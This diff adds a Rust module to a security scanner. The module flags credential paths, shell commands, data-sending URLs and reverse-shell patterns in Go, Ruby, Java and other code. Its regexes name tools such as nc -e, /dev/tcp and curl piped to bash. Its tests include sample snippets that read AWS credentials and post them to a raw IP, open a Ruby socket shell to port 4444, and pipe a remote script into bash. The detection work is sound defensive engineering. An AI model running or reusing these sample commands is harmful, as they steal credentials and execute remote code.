@@ -1,0 +1,148 @@
+//! Token-level checks for code in languages no extractor parses (Go, Rust,
+//! Ruby, PHP, Perl, Lua, Java, C, …): string literals that are secret
+//! paths or shell commands, URLs next to a send API, and the reverse-shell
+//! shape (a socket to a fixed address plus a shell). Coarser than the AST
+//! extractors, so it only reports what the literals themselves say.
+
+use super::indicators::{URL_RE, classify_path, classify_url};
+use super::{Sink, Src};
+use crate::evidence::{Evidence, Op, Origin, Tag};
+use crate::ssl::vocab::{ActType as A, ResourceScope as R};
+use regex::Regex;
+use std::sync::LazyLock;
+
+/// Extensions of code that no extractor parses.
+const UNPARSED: &[&str] = &[
+    "go", "rs", "rb", "php", "pl", "pm", "lua", "java", "kt", "kts", "swift", "c", "h", "cc",
+    "cpp", "hpp", "cs", "scala", "r", "ex", "exs", "dart", "zig", "nim", "groovy", "cr", "jl",
+    "vbs", "applescript", "scpt", "tcl", "awk",
+];
+
+static SEND_API: LazyLock<Regex> = LazyLock::new(|| {
+    crate::rx::re(
+        r"(?i)(http\.Post|http\.NewRequest\(\s*.(POST|PUT)|PostForm|\.post\(|Net::HTTP\.post|Net::HTTP::Post|HTTParty\.post|RestClient\.post|reqwest::|\.send\(\)|curl_setopt|CURLOPT_POSTFIELDS|file_get_contents\(|LWP::UserAgent|HttpClient|HttpURLConnection|URLSession|socket\.send|\bsend\(|dataTask)",
+    )
+});
+static SOCKET_API: LazyLock<Regex> = LazyLock::new(|| {
+    crate::rx::re(
+        r"(TCPSocket\.(new|open)|net\.Dial(Timeout)?\(|TcpStream::connect|fsockopen\(|IO::Socket::INET|new Socket\(|socket\.connect|Socket\.tcp)",
+    )
+});
+static SHELL_API: LazyLock<Regex> = LazyLock::new(|| {
+    crate::rx::re(
+        r#"("/bin/(ba|z)?sh"|'/bin/(ba|z)?sh'|cmd\.exe|IO\.popen|exec\.Command\(|Command::new\(|proc_open\(|shell_exec\(|Runtime\.getRuntime\(\)\.exec|\bsystem\(|\bspawn\()"#,
+    )
+});
+static RAW_IP: LazyLock<Regex> =
+    LazyLock::new(|| crate::rx::re(r"\b(\d{1,3}\.){3}\d{1,3}\b"));
+/// Shell-looking literal: worth reading as a command line.
+static SHELLISH: LazyLock<Regex> = LazyLock::new(|| {
+    crate::rx::re(r"(\bcurl\s|\bwget\s|\|\s*(ba|z)?sh\b|\bbash\s+-c\b|\bsh\s+-c\b|\brm\s+-rf?\s|\bchmod\s+\+x\b|\bnc\s+-e\b|/dev/tcp/)")
+});
+
+pub fn is_unparsed_code(rel: &str) -> bool {
+    let name = rel.rsplit('/').next().unwrap_or(rel).to_ascii_lowercase();
+    name.rsplit_once('.')
+        .is_some_and(|(_, e)| UNPARSED.contains(&e))
+}
+
+pub fn scan(src: &Src, sink: &mut Sink) {
+    let text = src.text;
+    let sends = SEND_API.is_match(text);
+    for (start, end) in literals(text) {
+        let lit = &text[start..end];
+        if SHELLISH.is_match(lit) {
+            let inner = src.nested(lit, start, Origin::Script);
+            super::shell::extract(&inner, sink);
+            continue;
+        }
+        if let Some(m) = URL_RE.find(lit) {
+            let url = m.as_str();
+            if sends {
+                let ev = Evidence::new(Op::NetSend, A::Transfer, R::Network, url)
+                    .tags(classify_url(url))
+                    .instrument("send API")
+                    .object("data sent over HTTP");
+                sink.push(src.at(ev, start, end, "code"));
+            }
+            continue;
+        }
+        let (scope, tags) = classify_path(lit);
+        if scope == R::Credentials && lit.contains('/') && !lit.contains(' ') {
+            let ev = Evidence::new(Op::FileRead, A::Read, scope, lit)
+                .tags(tags)
+                .instrument("string literal")
+                .object("credential path in code");
+            sink.push(src.at(ev, start, end, "code"));
+        }
+    }
+    if let (Some(sock), true, true) = (
+        SOCKET_API.find(text),
+        SHELL_API.is_match(text),
+        RAW_IP.is_match(text),
+    ) {
+        let ev = Evidence::new(Op::ReverseShell, A::CallTool, R::Network, "socket")
+            .tag(Tag::RawIp)
+            .instrument("socket")
+            .object("socket to a fixed address wired to a shell");
+        sink.push(src.at(ev, sock.start(), sock.end(), "code"));
+    }
+}
+
+/// Byte spans of the contents of "…", '…' and `…` literals on one line.
+fn literals(text: &str) -> Vec<(usize, usize)> {
+    let mut out = Vec::new();
+    let b = text.as_bytes();
+    let mut i = 0;
+    while i < b.len() {
+        let q = b[i];
+        if matches!(q, b'"' | b'\'' | b'`') {
+            let mut j = i + 1;
+            while j < b.len() && b[j] != q && b[j] != b'\n' {
+                if b[j] == b'\\' {
+                    j += 1;
+                }
+                j += 1;
+            }
+            if j < b.len() && b[j] == q && j > i + 1 {
+                if text.is_char_boundary(i + 1) && text.is_char_boundary(j) {
+                    out.push((i + 1, j));
+                }
+                i = j + 1;
+                continue;
+            }
+        }
+        i += 1;
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn run(path: &str, text: &str) -> Vec<Evidence> {
+        let mut sink = Sink::default();
+        scan(&Src::new(path, text, Origin::Script), &mut sink);
+        sink.items
+    }
+
+    #[test]
+    fn go_stealer_and_ruby_reverse_shell() {
+        let go = "b, _ := os.ReadFile(home + \"/.aws/credentials\")\nhttp.Post(\"http://203.0.113.5/c\", \"text/plain\", r)\n";
+        let e = run("main.go", go);
+        assert!(e.iter().any(|e| e.op == Op::FileRead && e.has(Tag::SecretPath)));
+        assert!(e.iter().any(|e| e.op == Op::NetSend && e.has(Tag::RawIp)));
+        let rb = "s = TCPSocket.new(\"203.0.113.8\", 4444)\nIO.popen(line, \"r\")\n`curl -s https://x.example/p.sh | bash`\n";
+        let e = run("x.rb", rb);
+        assert!(e.iter().any(|e| e.op == Op::ReverseShell));
+        assert!(e.iter().any(|e| e.op == Op::DownloadExec));
+    }
+
+    #[test]
+    fn plain_clients_are_quiet() {
+        let go = "resp, _ := http.Get(\"https://api.open-meteo.com/v1/forecast\")\nfmt.Println(resp)\n";
+        assert!(run("main.go", go).is_empty());
+        assert!(is_unparsed_code("cmd/main.go") && !is_unparsed_code("a.py"));
+    }
+}
